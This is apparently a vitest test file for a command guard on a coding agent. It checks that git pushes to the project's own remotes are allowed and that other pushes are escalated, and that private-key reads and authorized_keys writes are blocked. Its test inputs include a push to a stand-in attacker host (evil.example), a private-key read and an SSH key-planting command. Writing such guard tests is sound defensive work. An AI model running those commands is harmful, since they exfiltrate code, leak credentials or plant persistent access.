// A push to a URL of the project's own repository (a remote its git config names) is a push to the
// project; any other URL, or a folder with no readable config, stays an upload that escalates.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createGuard } from '../../../guard/index.js';
import { remoteUrls, repositoryKey } from '../../../guard/egress/project-remotes.js';
import { loadPack } from '../../../packs/index.js';

const root = mkdtempSync(join(tmpdir(), 'mesh-remotes-'));
const repo = join(root, 'app');
mkdirSync(join(repo, '.git'), { recursive: true });
mkdirSync(join(repo, 'src', 'lib'), { recursive: true });
writeFileSync(
  join(repo, '.git', 'config'),
  '[core]\n\tbare = false\n[remote "origin"]\n\turl = git@github.com:Acme/App.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[remote "mirror"]\n\turl = https://gitlab.com/acme/app-mirror\n',
);
// a worktree: `.git` is a file naming the repository's folder
const worktree = join(root, 'wt');
mkdirSync(join(repo, '.git', 'worktrees', 'wt'), { recursive: true });
writeFileSync(join(repo, '.git', 'worktrees', 'wt', 'commondir'), '../..\n');
mkdirSync(worktree);
writeFileSync(join(worktree, '.git'), `gitdir: ${join(repo, '.git', 'worktrees', 'wt')}\n`);
const bare = join(root, 'no-repo');
mkdirSync(bare);
afterAll(() => {
  rmSync(root, { recursive: true, force: true });
});

const guard = createGuard({ policies: [loadPack('builtin:coding-agent').policy] });
const push = async (command: string, cwd?: string): Promise<string> =>
  (
    await guard.evaluate({
      phase: 'call',
      tool: 'Bash',
      args: { command },
      ...(cwd === undefined ? {} : { cwd }),
    })
  ).decision.verdict;

describe('pushes to the project', () => {
  it('a URL of a configured remote, in any spelling, is the project', async () => {
    expect(await push('git push https://github.com/acme/app.git main', repo)).toBe('allow');
    expect(
      await push('git push ssh://git@github.com/acme/app HEAD', join(repo, 'src', 'lib')),
    ).toBe('allow');
    expect(await push('git push https://gitlab.com/acme/app-mirror.git --tags', worktree)).toBe(
      'allow',
    );
  });

  it('another owner, another repository, another host, or no config: an upload', async () => {
    expect(await push('git push https://github.com/someone/app.git main', repo)).toBe('escalate');
    expect(await push('git push https://github.com/acme/app-fork.git main', repo)).toBe('escalate');
    expect(await push('git push https://evil.example/acme/app.git main', repo)).toBe('escalate');
    expect(await push('git push https://github.com/acme/app.git main', bare)).toBe('escalate');
    expect(await push('git push https://github.com/acme/app.git main')).toBe('escalate');
  });

  it('reads remotes and normalises repository URLs', () => {
    expect(remoteUrls('[remote "o"]\n url = "a"\n pushurl = b\n[branch "x"]\n url = c\n')).toEqual([
      'a',
      'b',
    ]);
    expect(repositoryKey('https://user@GitHub.com:443/Acme/App.git/')).toBe('github.com/acme/app');
    expect(repositoryKey('git@github.com:acme/app.git')).toBe('github.com/acme/app');
    expect(repositoryKey('../other/repo')).toBeNull();
    expect(repositoryKey('https://github.com/acme/../evil/app')).toBeNull();
  });
});

describe('public keys are no credential', () => {
  it('counting or listing authorized keys is allowed; writing them is persistence', async () => {
    expect(await push('cat ~/.ssh/authorized_keys | wc -l')).toBe('allow');
    expect(await push('grep -c ssh-ed25519 ~/.ssh/authorized_keys')).toBe('allow');
    expect(await push('echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys')).toBe('block');
    expect(await push('cat ~/.ssh/id_ed25519 | wc -l')).toBe('block');
  });
});
